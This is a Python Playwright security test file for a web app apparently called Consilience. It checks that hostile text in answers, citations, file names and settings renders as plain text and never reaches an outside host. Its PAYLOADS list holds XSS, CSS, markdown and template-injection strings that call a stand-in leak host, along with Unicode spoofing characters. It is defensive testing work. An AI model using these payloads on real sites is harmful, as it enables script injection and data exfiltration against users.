"""Text of an enemy in every place where text is shown: it stays text, and nothing is fetched."""

import json
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.web import made
from tests.web.conftest import Opener
from tests.web.fake import Fake, cited, hit, job_of

ELSEWHERE = "https://elsewhere.invalid/leak"
PAYLOADS = [
    f"<img src='{ELSEWHERE}'>",
    f'"><img src=x onerror="fetch(`{ELSEWHERE}`)">',
    f"<script>fetch('{ELSEWHERE}')</script>",
    f"<link rel=stylesheet href={ELSEWHERE}><link rel=prefetch href={ELSEWHERE}>",
    f"<svg onload=\"fetch('{ELSEWHERE}')\"><image href='{ELSEWHERE}'/></svg>",
    f"<style>@import '{ELSEWHERE}'; body {{ background: url({ELSEWHERE}) }}</style>",
    f"<iframe src='{ELSEWHERE}'></iframe><object data='{ELSEWHERE}'></object>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href='{ELSEWHERE}'>",
    f"![image]({ELSEWHERE}) [link]({ELSEWHERE}) <{ELSEWHERE}>",
    f"[ref]: {ELSEWHERE}\n![x][ref]",
    f"javascript:fetch('{ELSEWHERE}')",
    f"x'; background-image: url({ELSEWHERE}); '",
    "{n} {title} ${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "\u202etxt.exe\u2066\u200b\u200d\ufeff",
    "</textarea></title></mark></p><h1>big</h1>",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_text_of_an_enemy_stays_text(
    fake: Fake, address: str, open_page: Opener, payload: str
) -> None:
    name = payload.replace("\n", " ")
    fake.texts = {name: payload * 3}
    fake.titles = {name: payload}
    error = {"kind": payload, "message": payload, "hint": payload}
    fake.jobs = {"j": job_of("j", name, "failed", error=error)}
    fake.answers = [_told(name, payload), [(0.0, "error", {"error": error})]]
    fake.runs = {name: [{"step": 1, payload: 1.0}, {"step": 2, payload: 2.0}]}
    fake.evaluations = [_evaluation(name, payload)]
    page, watched = open_page(address)
    page.on("dialog", lambda one: pytest.fail("a script ran"))
    page.fill("#question", payload)
    page.press("#question", "Enter")
    expect(page.locator(".cites")).to_have_count(1)
    expect(page.locator(".turn h2")).to_have_text(payload.strip())
    shown = page.locator(".answer").evaluate("one => one.firstChild.data")
    assert shown == payload
    page.get_by_role("button", name="Which passage carried each word").click()
    page.locator(".token").first.click()
    expect(page.locator("#source mark")).to_have_count(1)
    assert page.locator("#source mark").text_content() == payload
    assert page.locator("#source .text").text_content() == payload * 3
    page.fill("#question", "and now?")
    page.press("#question", "Enter")
    expect(page.locator(".turn .failed")).to_be_visible()
    for view in ("evaluations", "training"):
        page.click(f"a.tab[href='#{view}']")
        expect(page.locator(f"#{view}-body")).to_contain_text(name.strip()[:12])
    page.wait_for_load_state("networkidle")
    assert watched.elsewhere(address) == []
    assert watched.faults == []
    assert page.locator(".turn :is(img, script, iframe, svg image, style, link, h1)").count() == 0
    links = page.eval_on_selector_all("a", "all => all.map(one => one.origin)")
    assert set(links) == {address.rstrip("/")}
    assert page.title() == "Consilience"


def _told(name: str, payload: str) -> list[Any]:
    found = hit("p1", payload, title=payload, source=name)
    quote = {"start": 0, "end": len(payload), "text": payload}
    shares = {"p1": 1.0}
    about = {"answer": payload, "question": payload, "citations": [cited(found, 1.0, [quote])]}
    tokens = [{"text": payload, "posterior": shares}]
    answer = made.answer(**about, hits=[found], posterior=shares, tokens=tokens)
    return [
        (0.0, "start", {"id": payload}),
        (0.0, "retrieved", {"question": payload, "hits": [found]}),
        (0.0, "token", {"text": payload, "posterior": shares}),
        (0.0, "answer", answer),
    ]


def _evaluation(name: str, payload: str) -> dict[str, Any]:
    about = {"id": payload, "name": name, "created": payload, "questions": 1}
    return {**about, "metrics": {payload: 0.5}, "state": "done", "report": True}


def test_names_of_files_are_text_too(
    fake: Fake, address: str, open_page: Opener, tmp_path: Path
) -> None:
    page, watched = open_page(address)
    page.evaluate(
        """names => { const data = new DataTransfer();
        for (const name of names) data.items.add(new File(["x"], name));
        const told = { dataTransfer: data, bubbles: true };
        document.body.dispatchEvent(new DragEvent("drop", told)); }""",
        [payload.replace("/", "∕").replace("\n", " ") for payload in PAYLOADS],
    )
    expect(page.locator(".job")).to_have_count(len(PAYLOADS))
    expect(page.locator(".document")).to_have_count(len(PAYLOADS))
    assert page.locator(".job :is(img, script, iframe, style, link)").count() == 0
    assert watched.elsewhere(address) == []
    assert watched.faults == []


def test_settings_are_text_too(fake: Fake, address: str, open_page: Opener) -> None:
    one = {"value": PAYLOADS[0], "default": None, "file": PAYLOADS[1], "flag": False}
    more = {"restart": True, "allowed": PAYLOADS[2], "least": None, "most": None}
    spoken = {"help": {"en": PAYLOADS[4], "zh": PAYLOADS[4]}}
    fake.settings = {
        "path": PAYLOADS[3],
        "settings": [{"key": PAYLOADS[5], **one, **more, **spoken}],
    }
    page, watched = open_page(address)
    page.click("#open-settings")
    expect(page.locator("#settings .field code")).to_have_text(PAYLOADS[5])
    assert page.locator("#settings :is(img, script, iframe, style, link, svg image)").count() == 0
    assert watched.elsewhere(address) == []
    assert json.dumps(watched.faults) == "[]"


def test_what_became_markup_all_the_same_is_kept_in_bounds(address: str, open_page: Opener) -> None:
    page, _ = open_page(address)
    page.evaluate(
        """markup => { window.kept = [];
        const keep = (one) => window.kept.push(one.effectiveDirective);
        document.addEventListener("securitypolicyviolation", keep);
        document.body.insertAdjacentHTML("beforeend", markup); }""",
        "".join(one for one in PAYLOADS if "refresh" not in one),  # it takes the page along
    )
    bounds = ["frame-src", "img-src", "object-src", "script-src-attr", "style-src-elem"]
    page.wait_for_function(
        "bounds => bounds.every((one) => window.kept.includes(one))", arg=bounds, timeout=10_000
    )
